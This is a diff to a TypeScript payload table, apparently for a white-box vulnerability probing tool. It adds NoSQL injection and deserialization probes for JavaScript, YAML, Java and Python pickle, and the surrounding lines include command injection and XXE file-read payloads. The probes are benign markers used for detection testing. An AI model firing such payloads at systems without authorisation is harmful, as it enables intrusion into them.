@@ -32,6 +32,10 @@ export const PAYLOADS: Readonly<Record<string, Payload>> = {
     json: { $ne: null },
     effect: 'The value arrives as an operator, not as a text: the query matches every document.',
   },
+  'nosql injection, joined': {
+    text: (quote) => (quote === '' ? '0 || 1==1' : `x${quote} || ${quote}1${quote}==${quote}1`),
+    effect: 'The condition is now always true: the query matches every document.',
+  },
   'command injection': {
     text: (quote) => (quote === '' ? 'x; id' : `x${quote}; id; echo ${quote}`),
     effect: 'The answer, or the process list of the host, shows that `id` ran.',
@@ -61,9 +65,23 @@ export const PAYLOADS: Readonly<Record<string, Payload>> = {
     effect: 'Afterwards `({}).polluted` is `yes` in the whole process.',
   },
   'insecure deserialization': {
+    text: () => '{"probe":"_$$ND_FUNC$$_function(){throw new Error(6*7)}()"}',
+    effect: 'The error says 42: a function that stands in the text was run.',
+  },
+  'insecure deserialization, yaml': {
+    text: () => 'probe: !!js/function "function(){throw new Error(6*7)}"',
+    contentType: 'application/yaml',
+    effect: 'The value becomes a function instead of a text: the sender decides which types are made.',
+  },
+  'insecure deserialization, java': {
     text: () => 'rO0ABXNyAA5jb250cm9sbGVkLlR5cGU=',
     contentType: 'application/octet-stream',
     effect: 'The error names the type of the sent object: the sender decides which types are made.',
+  },
+  'insecure deserialization, python': {
+    text: () => 'c__builtin__\nint\n(S\'42\'\ntR.',
+    contentType: 'application/octet-stream',
+    effect: 'The result is the number 42: the data said which function to call.',
   },
   'xml external entities': {
     text: () => '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY e SYSTEM "file:///etc/hostname">]><r>&e;</r>',
@@ -87,7 +105,14 @@ export const PAYLOADS: Readonly<Record<string, Payload>> = {
 
 const FALLBACK: Payload = { text: () => 'whitebox-probe', effect: 'The value arrives at the place unchanged.' };
 
-/** The payload for a category; a marker that can be followed where the category has none. */
-export function payloadFor(category: string): Payload {
-  return (Object.hasOwn(PAYLOADS, category) ? PAYLOADS[category] : undefined) ?? FALLBACK;
+/**
+ * The payload for a category; a marker that can be followed where the category has none. `variants` pick a form of it
+ * where there is one, the first first: how the value is used (`joined`, `yaml`) or the language.
+ */
+export function payloadFor(category: string, variants: readonly string[] = []): Payload {
+  for (const name of [...variants.map((variant) => `${category}, ${variant}`), category]) {
+    const payload = Object.hasOwn(PAYLOADS, name) ? PAYLOADS[name] : undefined;
+    if (payload !== undefined) return payload;
+  }
+  return FALLBACK;
 }
